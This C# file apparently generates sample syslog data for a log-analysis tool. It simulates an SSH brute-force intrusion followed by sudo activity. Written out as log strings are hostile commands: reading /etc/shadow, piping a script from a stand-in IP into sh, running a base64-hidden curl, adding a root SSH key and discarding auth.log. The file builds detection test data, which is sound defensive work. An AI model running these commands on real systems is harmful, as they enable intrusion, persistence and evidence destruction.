using System.Globalization;
using System.Text;

namespace Quarry.Samples;

/// <summary>What is planted in the syslog: a password found by trying, and what its finder does with sudo.</summary>
internal static class LinuxIntrusion
{
    private const string Attacker = "203.0.113.77";
    private const int AuthPriv = 10;

    private static readonly string[] Guesses =
        ["admin", "oracle", "test", "ubuntu", "postgres", "git", "deploy", "root", "backup", "nagios"];

    private static readonly string[] Burst =
    [
        "/usr/bin/id", "/usr/bin/uname -a", "/usr/bin/cat /etc/shadow", "/usr/bin/cat /etc/sudoers", "/usr/bin/ss -tlnp",
        "/usr/bin/ps aux", "/usr/bin/last -n 20", "/usr/bin/ls -la /root", "/usr/bin/crontab -l", "/usr/bin/find / -perm -4000",
        "/usr/sbin/ip addr", "/usr/bin/env",
    ];

    /// <summary>Adds the planted events to those of the host.</summary>
    public static void Plan(List<SyslogEvent> events, SampleRandom random, SyslogHost host)
    {
        TryPasswords(events, random, host);
        ActAsRoot(events, random, host);
        events.Add(new(At("2026-03-04 03:17:44"), host, AuthPriv, 6, "sshd", 30211, "Connection closed by " + Attacker)
        {
            CutAt = 14,
            Planted = ("a line cut short: not even its time is whole (no row in syslog.csv)", "<86>Mar  4 03:"),
        });
        events.Add(new(At("2026-03-04 03:20:05"), host, 1, 4, "shopd", 2211, "configuration changed by deploy")
        {
            StructuredData = @"[change@32473 file=""C:\\conf\\shop.ini"" text=""url=\""https://telemetry.example.org/js/a.js\"" [new\]""]",
            Planted = ("structured data with escaped quotes, brackets and backslashes, a byte-order mark before the message", "[change@32473"),
        });
    }

    private static void TryPasswords(List<SyslogEvent> events, SampleRandom random, SyslogHost host)
    {
        DateTime time = At("2026-03-04 02:11:03");
        for (int i = 0; i < 180; i++)
        {
            time = time.AddMilliseconds(random.Between(400, 3200));
            int id = 30000 + i;
            string user = random.Pick(Guesses);
            string known = user is "root" or "deploy" or "backup" ? "" : "invalid user ";
            string port = random.Between(32768, 60999).ToString(CultureInfo.InvariantCulture);
            events.Add(new(time, host, AuthPriv, 6, "sshd", id, $"Failed password for {known}{user} from {Attacker} port {port} ssh2")
            {
                Planted = ("brute force: 180 failed passwords", "from " + Attacker + " port"),
            });
        }

        events.Add(new(time.AddSeconds(2), host, AuthPriv, 6, "sshd", 30190, $"Accepted password for deploy from {Attacker} port 51514 ssh2")
        {
            Planted = ("the guess that worked", "Accepted password for deploy from " + Attacker),
        });
        events.Add(new(time.AddSeconds(2).AddMilliseconds(30), host, AuthPriv, 6, "sshd", 30190, "pam_unix(sshd:session): session opened for user deploy(uid=1005) by (uid=0)")
        {
            Planted = ("a session that is never closed", "session opened for user deploy(uid=1005)"),
        });
    }

    private static void ActAsRoot(List<SyslogEvent> events, SampleRandom random, SyslogHost host)
    {
        DateTime time = At("2026-03-04 02:24:10");
        foreach (string command in Burst)
        {
            SyslogEvents.AddSudo(events, random, host, time, "deploy", command, ("a burst: twelve sudo commands in under five seconds", "  deploy : TTY=pts/0"));
            time = time.AddMilliseconds(random.Between(250, 390));
        }

        string hidden = Convert.ToBase64String(Encoding.ASCII.GetBytes("curl -fsS https://telemetry.example.org/api/v2/hello?h=web-01 -o /tmp/.hello"));
        (string Time, int Milliseconds, string Command, string What, string Evidence)[] risky =
        [
            ("02:26:31", 1904, "/bin/sh -c curl -fsS http://203.0.113.58/files/init.sh | sh", "a script from the network into a shell", "http://203.0.113.58/files/init.sh | sh"),
            ("02:28:02", 41, "/usr/bin/tee -a /root/.ssh/authorized_keys", "a key for root", "/root/.ssh/authorized_keys"),
            ("02:29:47", 733, $"/bin/sh -c echo {hidden} | base64 -d | sh", "a command in base64", "/bin/sh -c echo Y3VybCAtZnNTIGh0dHBz"),
            ("02:31:15", 126_300, "/bin/bash", "a root shell", "COMMAND=/bin/bash"),
            ("02:33:40", 27, "/bin/mv /var/log/auth.log /dev/null", "the log is thrown away", "/bin/mv /var/log/auth.log /dev/null"),
        ];
        foreach ((string at, int milliseconds, string command, string what, string evidence) in risky)
        {
            SyslogEvents.AddSudo(events, random, host, At("2026-03-04 " + at), "deploy", command, (what, evidence), TimeSpan.FromMilliseconds(milliseconds));
        }
    }

    private static DateTime At(string time) => SampleText.Utc(time).AddMilliseconds(211);
}
